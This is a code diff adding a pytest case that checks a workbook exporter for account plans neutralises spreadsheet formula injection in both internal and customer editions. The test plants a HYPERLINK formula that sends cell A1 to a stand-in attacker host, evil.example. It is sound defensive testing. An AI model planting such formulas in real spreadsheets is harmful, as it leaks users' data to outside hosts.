@@ -11,6 +11,8 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import json
+import shutil
 from pathlib import Path
 from typing import Any
 
@@ -247,3 +249,23 @@ def test_the_shared_workbook_holds_one_account_and_only_what_is_shared() -> None
                 if a.internal]
     shared = [row["Maßnahme"] for row in table(book, "Maßnahmen")]
     assert shared and not set(internal) & set(shared)
+
+
+@pytest.mark.parametrize("audience, account", [("internal", None),
+                                               ("customer", "nordwerk-chemie")])
+def test_a_formula_in_plan_text_stays_text_in_either_edition(
+        tmp_path: Path, audience: str, account: str | None) -> None:
+    plans = tmp_path / "plans"
+    shutil.copytree(EXAMPLE, plans)
+    plan = plans / "accounts" / "nordwerk-chemie" / "plan.yaml"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    text = plan.read_text("utf-8")
+    assert text.count("  - title: VMI-Pilot in Stade\n") == 1
+    plan.write_text(text.replace("  - title: VMI-Pilot in Stade\n",
+                                 f"  - title: {json.dumps(formula)}\n"), "utf-8")
+    book = book_of(plans, audience, account)
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert not [c.value for c in cells if isinstance(c.value, str)
+                and c.value.startswith(("=", "+", "-", "@"))]
+    assert "'" + formula in {row["Maßnahme"] for row in table(book, "Maßnahmen")}
